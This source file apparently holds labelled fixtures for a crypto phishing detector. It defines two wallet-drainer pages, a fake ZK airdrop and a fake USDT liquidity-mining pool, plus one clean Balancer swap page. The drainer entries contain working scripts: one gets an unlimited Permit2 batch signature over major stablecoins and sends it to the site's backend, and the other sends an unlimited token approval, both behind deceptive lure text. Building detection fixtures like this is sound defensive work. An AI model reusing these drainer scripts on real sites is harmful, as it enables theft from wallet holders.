import { htmlRoute, type Entry } from '../entry.js';
import { doc, baseCss, formCss, dashCss, monogram } from '../parts/yp-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yp-crypto-airdrop-permit2-claim',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-zkdrop-season2.xyz/',
  routes: {
    'claim-zkdrop-season2.xyz/assets/claim.js': jsRoute(`(function(){
var SPENDER='0x7a3F0c9E2b4D1e8A5c6B9f0D2E4a1C3b5D7e9F10';
var PERMIT2='0x000000000022D473030F116dDEE9F6B43aC78BA3';
var TOKENS=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x6B175474E89094C44Da98b954EedeAC495271d0F','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'];
var btn=document.getElementById('claim'),st=document.getElementById('st');
async function run(){
  if(!window.ethereum){st.textContent='Please open this page in your wallet browser (MetaMask, Trust, Coinbase).';return}
  var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
  st.textContent='Checking eligibility for '+acc.slice(0,6)+'…'+acc.slice(-4);
  var chain=await ethereum.request({method:'eth_chainId'});
  if(chain!=='0x1'){await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})}
  var dl=Math.floor(Date.now()/1000)+86400*30;
  var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},
    primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:PERMIT2},
    message:{details:TOKENS.map(function(t){return {token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:0}}),spender:SPENDER,sigDeadline:dl}};
  st.textContent='Eligible! Sign to claim 2,150 ZKD';
  var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(msg)]});
  await fetch('/api/v2/claim',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,s:sig,m:msg})});
  st.textContent='Claim submitted. Tokens will arrive within 10 minutes.';
}
btn.onclick=function(){run().catch(function(e){st.textContent='Claim failed: '+(e&&e.message||e)+'. Try again.'})};
})();`),
    'claim-zkdrop-season2.xyz/api/v2/claim': jsonRoute({ ok: true, queued: true }),
  },
  body: doc({
    title: 'ZK Drop – Season 2 Airdrop is live',
    css: baseCss + `body{background:radial-gradient(circle at top,#2a1b5e,#07051a);color:#fff;min-height:100vh;text-align:center}.c{max-width:520px;margin:80px auto;background:#ffffff0d;border:1px solid #ffffff22;border-radius:20px;padding:36px}.amt{font-size:46px;font-weight:800;background:linear-gradient(90deg,#a78bfa,#60a5fa);-webkit-background-clip:text;color:transparent}button{background:linear-gradient(90deg,#7c3aed,#2563eb);color:#fff;border:0;border-radius:12px;padding:16px 30px;font-size:18px;font-weight:700;width:100%}.t{font-size:13px;color:#a5a3c8}`,
    body: `<div class="c">${monogram('ZK', '#7c3aed', '#fff', 64, 32)}<h1>Season 2 airdrop</h1><p>Early users, bridgers and LPs are eligible for the second distribution. Unclaimed tokens are returned to the treasury in <b id="cd">23h 14m</b>.</p><div class="amt">2,150 ZKD</div><p class="t">≈ $3,870 at current price</p><button id="claim">Connect wallet &amp; claim</button><p id="st" class="t" style="margin-top:14px"></p><p class="t">Gas-free claim · Powered by Permit2</p></div><script src="/assets/claim.js"></script>`,
  }),
},
{
  id: 'yp-crypto-usdt-liquidity-mining-approve',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://defi-usdtpool.vip/#/mining',
  routes: {
    'defi-usdtpool.vip/': htmlRoute(doc({
      title: 'USDT Liquidity Mining · DeFi Pool',
      css: baseCss + dashCss + `.main{margin-left:0;max-width:520px;margin:0 auto}.rate{font-size:36px;color:#21c77a;font-weight:800}.join{width:100%;padding:14px;font-size:18px}.tier td:last-child{text-align:right}`,
      body: `<div class="main"><div style="display:flex;justify-content:space-between;align-items:center"><b style="font-size:20px">DeFi Pool</b><span id="addr" style="font-size:13px;color:#8b95aa">Not connected</span></div>
<div class="panel"><p style="margin:0;color:#8b95aa">Daily yield</p><div class="rate">1.2% – 3.8%</div><p>Receive voucher to join liquidity mining. Your USDT stays in your own wallet – no transfer required. Income is paid in ETH every 6 hours.</p><button class="btn join" id="j">Receive voucher</button><p id="msg" style="color:#8b95aa;font-size:13px"></p></div>
<div class="panel"><h3 style="margin-top:0">Mining levels</h3><table class="tier"><tr><th>USDT in wallet</th><th>Daily</th></tr><tr><td>100 – 4,999</td><td>1.2%</td></tr><tr><td>5,000 – 19,999</td><td>1.8%</td></tr><tr><td>20,000 – 49,999</td><td>2.5%</td></tr><tr><td>50,000 +</td><td>3.8%</td></tr></table></div>
<div class="panel"><h3 style="margin-top:0">Output</h3><table><tr><td>0x8e…41c2</td><td class="up">+0.1842 ETH</td></tr><tr><td>0x1b…9f07</td><td class="up">+0.0977 ETH</td></tr><tr><td>0xd4…22ae</td><td class="up">+0.4210 ETH</td></tr></table></div></div>
<script>
var USDT='0xdAC17F958D2ee523a2206206994597C13D831ec7';
var POOL='3f1e8b2c9a7d4e6f0b5c1a2d3e4f5a6b7c8d9e0f';
function pad(h){return ('0'.repeat(64)+h).slice(-64)}
document.getElementById('j').onclick=async function(){
  var m=document.getElementById('msg');
  if(!window.ethereum){m.textContent='Open in Trust Wallet or imToken DApp browser';return}
  var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('addr').textContent=a.slice(0,6)+'…'+a.slice(-4);
  var data='0x095ea7b3'+pad(POOL)+'f'.repeat(64);
  try{var tx=await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:USDT,data:data,value:'0x0'}]});
    fetch('/api/join',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({addr:a,tx:tx,ref:localStorage.getItem('ref')||''})});
    m.textContent='Voucher received! Mining starts in 6 hours.'}catch(e){m.textContent='Voucher not received, please try again'}
};
var r=new URLSearchParams(location.hash.split('?')[1]||'').get('ref');if(r)localStorage.setItem('ref',r);
</script>`,
    })),
    'defi-usdtpool.vip/api/join': jsonRoute({ code: 0 }),
  },
},
{
  id: 'yp-clean-crypto-dex-swap-connect',
  label: 'clean',
  kind: 'clean-dapp',
  url: 'https://app.balancer.fi/#/ethereum/swap',
  routes: {
    'app.balancer.fi/assets/swap-panel.js': jsRoute(`(function(){
var btn=document.getElementById('connect'),out=document.getElementById('out'),inp=document.getElementById('in');
btn.onclick=async function(){
  if(!window.ethereum){window.open('https://metamask.io/download/','_blank');return}
  var acc=(await window.ethereum.request({method:'eth_requestAccounts'}))[0];
  btn.textContent=acc.slice(0,6)+'...'+acc.slice(-4);btn.disabled=true;
  document.getElementById('swap').disabled=false;
};
inp.oninput=function(){fetch('/api/sor/quote?amount='+encodeURIComponent(inp.value)).then(function(r){return r.json()}).then(function(q){out.value=q.out})};
})();`),
    'app.balancer.fi/api/sor/quote': jsonRoute({ out: '3312.08', route: 'WETH > USDC (Balancer v3 pools)', gasUsd: '2.14' }),
  },
  body: doc({
    title: 'Balancer | Swap',
    css: baseCss + `body{background:#fff;font-family:"Basel",Inter,Arial,sans-serif}nav{display:flex;justify-content:space-between;align-items:center;padding:14px 24px}.card{max-width:460px;margin:60px auto;border:1px solid #eee;border-radius:24px;padding:12px}.f{background:#f9f9f9;border-radius:16px;padding:16px;margin:4px 0}.f input{border:0;background:none;font-size:34px;width:70%}.tk{float:right;background:#fff;border:1px solid #eee;border-radius:20px;padding:6px 12px;font-weight:600}button.big{width:100%;border:0;border-radius:20px;padding:16px;font-size:18px;font-weight:600;background:#fef4ff;color:#fc72ff}#connect{background:#fc72ff;color:#fff;border:0;border-radius:20px;padding:8px 14px;font-weight:600}.foot{text-align:center;font-size:12px;color:#999}`,
    body: `<nav><b style="color:#1e293b;font-size:20px">⚖ Balancer</b><div>Swap · Pools · Portfolio</div><button id="connect">Connect</button></nav>
<div class="card"><div class="f"><p style="margin:0;color:#777">Sell</p><input id="in" placeholder="0" inputmode="decimal"><span class="tk">WETH</span></div><div class="f"><p style="margin:0;color:#777">Buy</p><input id="out" placeholder="0" readonly><span class="tk">USDC</span></div><button class="big" id="swap" disabled>Review swap</button></div>
<p class="foot">Balancer never asks for your recovery phrase. Always review transaction details in your wallet before signing.</p>
<script src="/assets/swap-panel.js"></script>`,
  }),
},
];
